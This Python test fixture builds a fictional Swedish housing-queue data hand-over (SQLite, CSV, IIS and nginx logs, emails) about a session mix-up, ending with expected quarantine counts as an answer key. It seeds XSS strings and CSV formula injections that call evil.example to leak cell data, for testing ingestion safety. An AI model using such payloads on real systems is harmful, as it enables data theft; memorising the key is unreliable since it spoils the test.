"""An outside tester's hand-written hand-over (issue 16), unlike the worked example and the generator's.

A 2013 housing queue's IT department as it might hand over: a queue-system SQLite database
with Swedish table and column names (``Sökande``, ``Handläggare``; ``J``/``N``; incomes as
REAL), semicolon CSV exports in Windows-1252 with CRLF, decimal commas and Stockholm local
times in both DST changes, an IIS log (UTC, CRLF, a UTF-8 BOM) whose ``#Fields:`` changes mid-file with a
malformed line and a ``#Remark``, an nginx log in a custom format, and the same five support
messages as ``.eml`` files and as a Maildir: quoted-printable UTF-8, a raw ISO-8859-1 header
and body, a broken MIME structure, encoded-word custom headers, an alarm about seeing
someone else's data. Hostile values: ``<script>``, ``=HYPERLINK(...)``, a 5,000-character
address, a NUL byte, a personnummer in free text. Invented people only (personnummer with
valid check digits, none real as far as known).

The incident it tells: release 5.3.0 at 06:00 local on 2013-11-14; at 07:58:40 local Anna
(1101) is shown Björn's (1102) profile and at 08:10:31 Cecilia (1103) sees Eva's (1105,
protected identity) offers; Anna writes to support at 08:07:33 local.
"""

from __future__ import annotations

import codecs
import shutil
import sqlite3
from pathlib import Path

__all__ = ["MAPPING", "MAPPING_NGINX_MAILDIR", "build"]


# Support mail: one file per message, the same bytes in the .eml folder and the Maildir.
MESSAGES: dict[str, bytes] = {}
MESSAGES["1384412853.eml"] = b"""Return-Path: <anna.t@example.com>\r
Received: from mx.example.com by mail.bostad.example; Thu, 14 Nov 2013 08:07:33 +0100\r
Date: Thu, 14 Nov 2013 08:07:20 +0100\r
From: Anna Testsson <anna.t@example.com>\r
To: kundtjanst@bostad.example\r
Subject: =?utf-8?q?Jag_ser_n=C3=A5gon_annans_uppgifter!?=\r
Message-ID: <20131114080720.1@example.com>\r
X-Kanal: E-post\r
MIME-Version: 1.0\r
Content-Type: text/plain; charset=utf-8\r
Content-Transfer-Encoding: quoted-printable\r
\r
Hej!\r
Jag loggade in p=C3=A5 Mina sidor och s=C3=A5g n=C3=A5gon annans uppgifter, =\r
personnummer 19791103-0026 och en adress p=C3=A5 G=C3=B6tgatan. Det =C3=A4r =\r
inte jag. Vad h=C3=A4nder?\r
Anna\r
"""
MESSAGES["1384413900.eml"] = """Received: from mx.example.com by mail.bostad.example; Thu, 14 Nov 2013 08:25:00 +0100\r
Date: Thu, 14 Nov 2013 08:24:51 +0100\r
From: =?iso-8859-1?q?Cecilia_=D6berg?= <cecilia.o@example.com>\r
To: kundtjanst@bostad.example\r
Subject: Fel adress p\xe5 min sida\r
Message-ID: <20131114082451.2@example.com>\r
X-Kanal: E-post\r
MIME-Version: 1.0\r
Content-Type: text/plain; charset=iso-8859-1\r
Content-Transfer-Encoding: 8bit\r
\r
Min sida visar en annan persons erbjudanden och adress. \xc4r det ett fel hos er?\r
H\xe4lsningar Cecilia\r
""".encode("latin-1")
MESSAGES["1384416000.eml"] = b"""Received: from mx.example.com by mail.bostad.example; Thu, 14 Nov 2013 09:00:00 +0100\r
Date: Thu, 14 Nov 2013 09:00:00 +0100\r
From: okand@example.net\r
Subject: bilaga\r
Message-ID: <20131114090000.3@example.net>\r
X-Kanal: E-post\r
MIME-Version: 1.0\r
Content-Type: multipart/mixed\r
\r
--xyz\r
Content-Type: text/plain\r
\r
Se bilagan\r
"""
MESSAGES["1384417000.eml"] = b"""Received: from web01 by mail.bostad.example; Thu, 14 Nov 2013 09:16:40 +0100\r
Date: Thu, 14 Nov 2013 09:16:40 +0100\r
From: noreply@bostad.example\r
Subject: <script>alert("subj")</script>\r
Message-ID: <20131114091640.4@bostad.example>\r
X-Kanal: =?iso-8859-1?q?Webbformul=E4r?=\r
MIME-Version: 1.0\r
Content-Type: text/plain; charset=utf-8\r
\r
=HYPERLINK("http://evil.example/?"&A1;"Klicka h\xc3\xa4r")\r
"""
MESSAGES["1384333200.eml"] = b"""Received: from web01 by mail.bostad.example; Wed, 13 Nov 2013 10:00:00 +0100\r
Date: Wed, 13 Nov 2013 10:00:00 +0100\r
From: noreply@bostad.example\r
Subject: =?utf-8?b?SHVyIGzDpW5nIMOkciBrw7ZuPw==?=\r
Message-ID: <20131113100000.5@bostad.example>\r
X-Kanal: =?iso-8859-1?q?Webbformul=E4r?=\r
MIME-Version: 1.0\r
Content-Type: multipart/alternative; boundary="b1"\r
\r
--b1\r
Content-Type: text/html; charset=utf-8\r
\r
<p>Hur l\xc3\xa4nge \xc3\xa4r k\xc3\xb6n?</p>\r
--b1--\r
"""


def build(out: Path) -> Path:
    """Write the hand-over into ``out`` (a new folder) and return it."""
    if out.exists():
        shutil.rmtree(out)
    if out.exists():
        shutil.rmtree(out)
    (out / "export").mkdir(parents=True)
    (out / "loggar" / "W3SVC2").mkdir(parents=True)
    (out / "loggar" / "nginx").mkdir(parents=True)
    (out / "post" / "eml").mkdir(parents=True)
    for d in ("cur", "new", "tmp"):
        (out / "post" / "Maildir" / d).mkdir(parents=True)

    LONG = "Lång gatan " + "x" * 5000

    # ---- the queue system (SQLite), Swedish table and column names -------------
    db = sqlite3.connect(out / "kösystem.sqlite")
    db.executescript("""
    CREATE TABLE "Sökande" (
      "Kundnr" INTEGER PRIMARY KEY, "Personnr" TEXT, "Förnamn" TEXT, "Efternamn" TEXT,
      "Gatuadress" TEXT, "Postnr" TEXT, "Postort" TEXT, "E-post" TEXT, "Mobil" TEXT,
      "Arbetsgivare" TEXT, "Årsinkomst" REAL, "Medsökande" TEXT, "MedsökandePnr" TEXT,
      "Studerande" TEXT, "SkyddadId" TEXT, "Köstart" TEXT, "Registrerad" TEXT,
      "Status" TEXT, "SkapadAv" INTEGER);
    CREATE TABLE "Handläggare" ("Hnr" INTEGER PRIMARY KEY, "Namn" TEXT, "Grupp" TEXT,
      "AnställdFrån" TEXT, "AnställdTill" TEXT);
    """)
    # fmt: off
    S = [
     (1101,"19850412-2386","Anna","Testsson","Ringvägen 1","118 60","Stockholm","anna.t@example.com","070-000 00 01","Åkeriet AB",384000.0,None,None,"N","N","2004-03-01","2004-03-01 10:12:00","Aktiv",None),
     (1102,"19791103-0026","Björn","Åkesson","Götgatan 2","116 46","Stockholm","bjorn.a@example.com","070-000 00 02",None,291000.0,"Cilla Åkesson","19800303-8067","N","N","2001-05-15","2001-05-15 09:00:00","Aktiv",None),
     (1103,"19920115-3518","Cecilia","Öberg","Sveavägen 3","113 50","Stockholm","cecilia.o@example.com","070-000 00 03",None,120000.0,None,None,"J","N","2011-08-20","2011-08-20 14:45:10","Aktiv",None),
     (1104,"19680722-4883","David","Ängström","Hornsgatan 4","118 20","Stockholm","david.a@example.com","070-000 00 04","Kommunen",455000.0,None,None,"N","N","1999-01-04","1999-01-04 08:30:00","Aktiv",7),
     (1105,"19881230-5442","Eva","Lund",None,None,None,None,None,None,None,None,None,"N","J","2008-02-02","2008-02-02 11:11:11","Aktiv",None),
     (1106,"19950601-7467","<script>alert('namn')</script>","Fredriksson","Fleminggatan 6","112 26","Stockholm","f@example.com","070-000 00 06",None,0.0,None,None,"J","N","2013-01-10","2013-01-10 20:00:00","Aktiv",None),
     (1107,"19750314-8426","Greta","Hylén","Kungsgatan 7","111 43","Stockholm","g@example.com","070-000 00 07",'=HYPERLINK("http://evil.example/?q="&A1;"Klicka")',310000.0,None,None,"N","N","2005-06-30","2005-06-30 12:00:00","Aktiv",None),
     (1108,"19811010-9934","Hugo","Lång",LONG,"171 64","Solna","h@example.com","070-000 00 08",None,250000.0,None,None,"N","N","2003-03-03","2003-03-03 03:03:03","Aktiv",None),
     (1109,"19900228-1559","Ida","Nul","Nollgatan 9","113 21","Stockholm","i@example.com","070-000 00 09","Firma\x00Noll AB",260000.0,None,None,"N","N","2009-09-09","2009-09-09 09:09:09","Aktiv",None),
     (1110,"19860606-4718","Jonas","Vilande","Vägen 10","120 30","Stockholm","j@example.com","070-000 00 10",None,200000.0,None,None,"N","N","2006-06-06","2006-06-06 06:06:06","Vilande",None),
     (1111,"19771201-9467","Karin","Vårnatt","Vägen 11","120 31","Stockholm","k@example.com","070-000 00 11",None,210000.0,None,None,"N","N","2013-03-31","2013-03-31 02:30:00","Aktiv",None),
     (1112,"19930922-6026","Lars","Höstnatt","Vägen 12","120 32","Stockholm","l@example.com","070-000 00 12",None,220000.0,None,None,"N","N","2013-10-27","2013-10-27 02:15:00","Aktiv",None),
     (1113,"19911111-2018","Maja","Halvkrona","Vägen 13","120 33","Stockholm","m@example.com","070-000 00 13",None,230000.5,None,None,"N","N","2010-10-10","2010-10-10 10:10:10","Bostad erhållen",None),
    ]
    # fmt: on
    db.executemany('INSERT INTO "Sökande" VALUES (' + ",".join("?" * 19) + ")", S)
    db.executemany(
        'INSERT INTO "Handläggare" VALUES (?,?,?,?,?)',
        [
            (7, "Karin Handläggarsson", "Innerstaden", "2008-09-01", None),
            (8, "Olle Östlund", "Söderort", "2010-01-11", "2013-06-30"),
        ],
    )
    db.commit()
    db.close()

    def csv_out(name, lines, enc="cp1252"):
        (out / "export" / name).write_bytes(("\r\n".join(lines) + "\r\n").encode(enc))

    # ---- exports: semicolon CSV, Windows-1252, decimal commas, Stockholm local time
    csv_out(
        "driftsättningar.csv",
        [
            "Tidpunkt;Version;Beskrivning",
            "2013-10-01 22:00:00;5.2.0;Höstrelease",
            "2013-11-14 06:00:00;5.3.0;Ny sessionshantering – snabbare inloggning",
            '2013-11-14 10:30:00;5.3.1;"Rättning: sessionen knöts till fel konto; cache delad"',
        ],
    )
    csv_out(
        "köavgifter.csv",
        [
            "Kundnr;Avgiftsår;Belopp;Betalningsdag",
            "1101;2012;200,00;2012-01-15 10:22:00",
            "1101;2013;200,00;2013-01-14 09:00:00",
            "1102;2013;200,00;2013-02-01 12:00:00",
            "1103;2013;200,50;2013-02-02 12:00:00",
            "9999;2013;200,00;2013-02-03 12:00:00",
            "1104;2013;200,00;2013-03-31 02:45:00",
        ],
    )
    csv_out(
        "inloggningar.csv",
        [
            "Tidpunkt;SessionsID;Kundnr;Inloggningssätt;IP-adress;Webbläsare",
            '2013-11-14 07:58:10;a1f0c3d2e4b59687;1101;BankID;83.250.14.7;"Mozilla/5.0 (Windows NT 6.1; WOW64; rv:25.0) Gecko/20100101 Firefox/25.0"',
            "2013-11-14 08:01:00;b2e1d4c3f5a6b798;1102;Lösenord;90.224.3.18;Mozilla/5.0 (iPhone)",
            "2013-11-14 08:10:30;c3d2e5f4a6b7c8d9;1103;Lösenord;81.229.8.2;Mozilla/5.0 (Macintosh)",
            "2013-11-14 08:15:00;d4c3f6a5b7c8d9e0;1104;BankID;;Mozilla/5.0 (Windows NT 6.1)",
            "2013-11-14 08:20:00;e5d4a7b6c8d9e0f1;1106;BankID;83.250.14.9;Opera/9.80",
            "2013-10-27 02:30:00;f6e5b8c7d9e0f1a2;1107;BankID;83.250.14.10;Opera/9.80",
            "2013-03-31 02:30:00;07f6c9d8e0f1a2b3;1108;BankID;83.250.14.11;Opera/9.80",
            "2013-11-14 08:22:00;18a7dae9f1a2b3c4;1109;Lösenord;83.250.14.12;<script>alert('ua')</script>",
            '2013-11-14 08:23:00;29b8ebfa02b3c4d5;1104;Mobilt BankID;83.250.14.13;=HYPERLINK("http://evil.example";"x")',
        ],
    )
    csv_out(
        "utloggningar.csv",
        [
            "Tidpunkt;SessionsID;Orsak",
            "2013-11-14 08:05:00;a1f0c3d2e4b59687;Utloggad",
            "2013-11-14 08:31:02;b2e1d4c3f5a6b798;Tidsgräns",
            "2013-11-14 08:12:00;c3d2e5f4a6b7c8d9;Utloggad",
            "2013-11-14 08:16:00;d4c3f6a5b7c8d9e0;Utloggad",
            "2013-11-14 08:40:00;ffffffffffffffff;Tidsgräns",
        ],
    )
    csv_out(
        "incidentlogg.csv",
        [
            "Tidpunkt;Åtgärd;Kommentar",
            "2013-11-14 08:45:00;Inloggning avstängd;Kund 19850412-2386 ringde och såg annans uppgifter",
            "2013-11-14 10:30:00;Rättning driftsatt;Version 5.3.1",
            "2013-11-14 11:00:00;Inloggning öppnad;",
            "2013-11-14 11:30:00;Information publicerad;<b>Nyhet</b> på webben",
        ],
    )

    # ---- IIS W3C log, UTC, CRLF; #Fields: changes mid-file ----------------------
    F1 = "date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status sc-substatus sc-win32-status time-taken"
    F2 = "date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Cookie) X-Visat-Konto sc-status sc-substatus sc-win32-status time-taken"

    def ck(s):
        return f"ASP.NET_SessionId={s};+BoSpråk=sv"

    iis = [
        "#Software: Microsoft Internet Information Services 8.5",
        "#Version: 1.0",
        "#Date: 2013-11-14 05:00:00",
        "#Fields: " + F1,
        "2013-11-14 05:00:03 10.0.0.5 GET /lediga-lagenheter - 443 - 83.250.14.7 Mozilla/5.0+(Windows+NT+6.1) 200 0 0 15",
        "2013-11-14 05:01:10 10.0.0.5 GET /mina-sidor - 443 - 83.250.14.7 Mozilla/5.0+(Windows+NT+6.1) 302 0 0 4",
        "#Remark: loggning av cookie och konto påslagen av driften",
        "#Software: Microsoft Internet Information Services 8.5",
        "#Version: 1.0",
        "#Date: 2013-11-14 06:50:00",
        "#Fields: " + F2,
        f"2013-11-14 06:58:11 10.0.0.5 GET /mina-sidor - 443 - 83.250.14.7 Mozilla/5.0+(Windows+NT+6.1) {ck('a1f0c3d2e4b59687')} 1101 200 0 0 31",
        f"2013-11-14 06:58:40 10.0.0.5 GET /mina-sidor/profil - 443 - 83.250.14.7 Mozilla/5.0+(Windows+NT+6.1) {ck('a1f0c3d2e4b59687')} 1102 200 0 0 40",
        f"2013-11-14 07:01:05 10.0.0.5 GET /mina-sidor/profil - 443 - 90.224.3.18 Mozilla/5.0+(iPhone) {ck('b2e1d4c3f5a6b798')} 1102 200 0 0 22",
        f"2013-11-14 07:02:00 10.0.0.5 GET /mina-sidor/ko - 443 - 90.224.3.18 Mozilla/5.0+(iPhone) {ck('b2e1d4c3f5a6b798')} 1102 200 0 0 12",
        f"2013-11-14 07:10:31 10.0.0.5 GET /mina-sidor/erbjudanden - 443 - 81.229.8.2 Mozilla/5.0+(Macintosh) {ck('c3d2e5f4a6b7c8d9')} 1105 200 0 0 55",
        f"2013-11-14 07:10:50 10.0.0.5 GET /lediga-lagenheter omrade=S%C3%B6dermalm 443 - 81.229.8.2 Mozilla/5.0+(Macintosh) {ck('c3d2e5f4a6b7c8d9')} - 200 0 0 9",
        "2013-11-14 07:12:",
        f"2013-11-14 07:15:02 10.0.0.5 GET /mina-sidor - 443 - - Mozilla/5.0+(Windows+NT+6.1) {ck('d4c3f6a5b7c8d9e0')} 1104 200 0 0 18",
        f"2013-11-14 07:20:10 10.0.0.5 GET /mina-sidor/profil - 443 - 83.250.14.9 Opera/9.80 {ck('e5d4a7b6c8d9e0f1')} 1106 200 0 0 20",
        f"2013-11-14 07:20:30 10.0.0.5 GET /mina-sidor/profil - 443 - 83.250.14.9 Opera/9.80 {ck('e5d4a7b6c8d9e0f1')} - 500 0 0 20",
        f"2013-11-14 07:22:00 10.0.0.5 GET /mina-sidor/<script>alert(1)</script> - 443 - 83.250.14.12 Opera/9.80 {ck('18a7dae9f1a2b3c4')} - 404 0 2 3",
        f"2013-11-14 07:23:00 10.0.0.5 GET /mina-sidor - 443 - 83.250.14.99 Opera/9.80 {ck('ffffffffffffffff')} 1101 200 0 0 3",
    ]
    # IIS writes a byte order mark at the start of a UTF-8 log
    (out / "loggar" / "W3SVC2" / "u_ex131114.log").write_bytes(
        codecs.BOM_UTF8 + ("\r\n".join(iis) + "\r\n").encode("utf-8")
    )
    iis2 = [
        "#Software: Microsoft Internet Information Services 8.5",
        "#Version: 1.0",
        "#Date: 2013-10-27 01:00:00",
        "#Fields: " + F2,
        f"2013-10-27 01:31:00 10.0.0.5 GET /mina-sidor - 443 - 83.250.14.10 Opera/9.80 {ck('f6e5b8c7d9e0f1a2')} 1107 200 0 0 30",
    ]
    (out / "loggar" / "W3SVC2" / "u_ex131027.log").write_bytes(("\r\n".join(iis2) + "\r\n").encode("utf-8"))

    # ---- nginx front proxy log with a custom format ------------------------------
    ng = [
        '83.250.14.7 - - [14/Nov/2013:07:58:11 +0100] "GET /mina-sidor HTTP/1.1" 200 5123 "-" "Mozilla/5.0 (Windows NT 6.1)" sess=a1f0c3d2e4b59687 konto=1101 rt=0.031',
        '83.250.14.7 - - [14/Nov/2013:07:58:40 +0100] "GET /mina-sidor/profil HTTP/1.1" 200 8120 "https://bostad.example/mina-sidor" "Mozilla/5.0 (Windows NT 6.1)" sess=a1f0c3d2e4b59687 konto=1102 rt=0.040',
        '90.224.3.18 - - [14/Nov/2013:08:01:05 +0100] "GET /mina-sidor/profil HTTP/1.1" 200 8101 "-" "Mozilla/5.0 (iPhone)" sess=b2e1d4c3f5a6b798 konto=1102 rt=0.022',
        '81.229.8.2 - - [14/Nov/2013:08:10:31 +0100] "GET /mina-sidor/erbjudanden HTTP/1.1" 200 4410 "-" "Mozilla/5.0 (Macintosh)" sess=c3d2e5f4a6b7c8d9 konto=1105 rt=0.055',
        '81.229.8.2 - - [14/Nov/2013:08:10:50 +0100] "GET /lediga-lagenheter?omrade=S%C3%B6dermalm HTTP/1.1" 200 9000 "-" "Mozilla/5.0 (Macintosh)" sess=c3d2e5f4a6b7c8d9 konto=- rt=0.009',
        "this is not a log line",
        '- - - [14/Nov/2013:08:15:02 +0100] "GET /mina-sidor HTTP/1.1" 200 5100 "-" "Mozilla/5.0 (Windows NT 6.1)" sess=d4c3f6a5b7c8d9e0 konto=1104 rt=0.018',
        '83.250.14.12 - - [14/Nov/2013:08:22:00 +0100] "GET /mina-sidor/<script>alert(1)</script> HTTP/1.1" 404 150 "-" "<script>alert(2)</script>" sess=18a7dae9f1a2b3c4 konto=- rt=0.003',
    ]
    (out / "loggar" / "nginx" / "access.log").write_text("\n".join(ng) + "\n", encoding="utf-8")

    # ---- mail -------------------------------------------------------------------
    for i, (n, b) in enumerate(MESSAGES.items()):
        (out / "post" / "eml" / n).write_bytes(b)
        (out / "post" / "Maildir" / "cur" / f"{n[:-4]}.M{i}P100.mail.bostad.example:2,S").write_bytes(b)
    (out / "mapping.yaml").write_text(MAPPING, encoding="utf-8")
    (out / "mapping_nginx_maildir.yaml").write_text(MAPPING_NGINX_MAILDIR, encoding="utf-8")
    return out


MAPPING = """\
# Handwritten mapping for kösystemet's hand-over (IIS + .eml)
version: 1
timezone: Europe/Stockholm
tables:
  applicants:
    source: {sql: 'SELECT * FROM "Sökande"', url: "sqlite:///kösystem.sqlite"}
    columns:
      applicant_id: Kundnr
      personnummer: Personnr
      name: {concat: [Förnamn, {text: " "}, Efternamn]}
      address: Gatuadress
      postal_code: Postnr
      city: Postort
      email: E-post
      phone: Mobil
      employer: Arbetsgivare
      annual_income: Årsinkomst
      co_applicant_name: Medsökande
      co_applicant_personnummer: MedsökandePnr
      student: {column: Studerande, values: {"J": true, "N": false}}
      protected_identity: {column: SkyddadId, values: {"J": true, "N": false}}
      queue_start: Köstart
      registered_at: Registrerad
      status: {column: Status, values: {"Aktiv": active, "Bostad erhållen": housed, "Avslutad": closed}}
      created_by_handler_id: SkapadAv
  handlers:
    source: {sql: 'SELECT * FROM "Handläggare"', url: "sqlite:///kösystem.sqlite"}
    columns:
      handler_id: Hnr
      name: Namn
      team: Grupp
      active_from: AnställdFrån
      active_to: AnställdTill
  deployments:
    source: {csv: "export/driftsättningar.csv", delimiter: ";", encoding: cp1252}
    columns:
      time: Tidpunkt
      version: Version
      description: Beskrivning
  fees:
    source: {csv: "export/köavgifter.csv", delimiter: ";", encoding: cp1252, decimal_comma: true}
    columns:
      applicant_id: Kundnr
      year: Avgiftsår
      amount: Belopp
      paid_at: Betalningsdag
  logins:
    source: {csv: "export/inloggningar.csv", delimiter: ";", encoding: cp1252}
    columns:
      time: Tidpunkt
      session_id: SessionsID
      applicant_id: Kundnr
      method: {column: Inloggningssätt, values: {"BankID": bankid, "Lösenord": password}}
      ip: IP-adress
      user_agent: Webbläsare
  logouts:
    source: {csv: "export/utloggningar.csv", delimiter: ";", encoding: cp1252}
    columns:
      time: Tidpunkt
      session_id: SessionsID
      reason: {column: Orsak, values: {"Utloggad": user, "Tidsgräns": timeout}}
  incident_actions:
    source: {csv: "export/incidentlogg.csv", delimiter: ";", encoding: cp1252}
    columns:
      time: Tidpunkt
      action: {column: Åtgärd, values: {"Inloggning avstängd": login_disabled, "Rättning driftsatt": fix_deployed, "Inloggning öppnad": login_enabled, "Information publicerad": notice_published}}
      description: Kommentar
  page_views:
    source: {iis: "loggar/W3SVC2/u_ex*.log"}
    columns:
      time: datetime
      session_id: {column: cs(Cookie), extract: "ASP.NET_SessionId=([0-9a-f]+)"}
      ip: c-ip
      path: cs-uri-stem
      status: sc-status
      account_id: X-Visat-Konto
  support_messages:
    source: {eml: "post/eml/*.eml"}
    columns:
      message_id: message-id
      received_at: received_at
      channel: {column: x-kanal, values: {"E-post": email, "Webbformulär": web_form}}
      sender_applicant_id: null
      sender_address: from_address
      subject: subject
      body: body
"""

_NGINX_FORMAT = (
    '$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" '
    '"$http_user_agent" sess=$cookie_BOSESSION konto=$upstream_http_x_visat_konto rt=$request_time'
)
_PAGE_VIEWS_NGINX = f"""\
  page_views:
    source: {{weblog: "loggar/nginx/access.log", log_format: '{_NGINX_FORMAT}'}}
    columns:
      time: time
      session_id: cookie_BOSESSION
      ip: remote_addr
      path: path
      status: status
      account_id: upstream_http_x_visat_konto
"""
# The same tables, with page_views from the nginx front proxy and support mail from the Maildir.
MAPPING_NGINX_MAILDIR = (
    MAPPING.split("  page_views:\n")[0]
    + _PAGE_VIEWS_NGINX
    + "  support_messages:\n"
    + MAPPING.split("  support_messages:\n")[1].replace('{eml: "post/eml/*.eml"}', '{maildir: "post/Maildir"}')
)

# What a reader works out by hand from the files above: per input (read, loaded, quarantined),
# and the column each quarantined line is refused for (None: the record as a whole).
RECONCILED = {
    "kösystem.sqlite#applicants": (13, 7, 6),
    "kösystem.sqlite#handlers": (2, 2, 0),
    "export/driftsättningar.csv": (3, 3, 0),
    "export/köavgifter.csv": (6, 3, 3),
    "export/inloggningar.csv": (9, 6, 3),
    "export/utloggningar.csv": (5, 4, 1),
    "export/incidentlogg.csv": (4, 4, 0),
    "loggar/W3SVC2/u_ex131027.log": (1, 0, 1),
    "loggar/W3SVC2/u_ex131114.log": (14, 10, 4),
    **{f"post/eml/{name}": (1, 0, 1) if name == "1384416000.eml" else (1, 1, 0) for name in MESSAGES},
}
QUARANTINED = {
    ("kösystem.sqlite#applicants", 8): "address",  # 5,011 characters
    ("kösystem.sqlite#applicants", 9): "employer",  # a NUL byte
    ("kösystem.sqlite#applicants", 10): "status",  # 'Vilande' is not in the value map
    ("kösystem.sqlite#applicants", 11): "registered_at",  # 02:30 on 2013-03-31 never happened
    ("kösystem.sqlite#applicants", 12): "registered_at",  # 02:15 on 2013-10-27 happened twice
    ("kösystem.sqlite#applicants", 13): "annual_income",  # a REAL 230000.5: no whole number
    ("export/köavgifter.csv", 5): "amount",  # 200,50
    ("export/köavgifter.csv", 6): "applicant_id",  # no customer 9999
    ("export/köavgifter.csv", 7): "paid_at",  # 02:45 on 2013-03-31
    ("export/inloggningar.csv", 7): "time",  # 02:30 on 2013-10-27
    ("export/inloggningar.csv", 8): "time",  # 02:30 on 2013-03-31
    ("export/inloggningar.csv", 10): None,  # an unquoted ';' inside =HYPERLINK(...): 7 fields
    ("export/utloggningar.csv", 6): "session_id",  # no such login
    ("loggar/W3SVC2/u_ex131027.log", 5): "session_id",  # its login was quarantined (DST)
    ("loggar/W3SVC2/u_ex131114.log", 5): "session_id",  # logged before cs(Cookie) was
    ("loggar/W3SVC2/u_ex131114.log", 6): "session_id",
    ("loggar/W3SVC2/u_ex131114.log", 18): None,  # a line cut short
    ("loggar/W3SVC2/u_ex131114.log", 23): "session_id",  # no such login
    ("post/eml/1384416000.eml", 1): "body",  # multipart without parts
}
# Page views that showed a member another member's account: (session, account shown, session's member).
FOREIGN = {("a1f0c3d2e4b59687", 1102, 1101), ("c3d2e5f4a6b7c8d9", 1105, 1103)}
FIRST_ALARM_UTC = "2013-11-14 07:07:33"  # Anna's mail, by the mail server's Received stamp
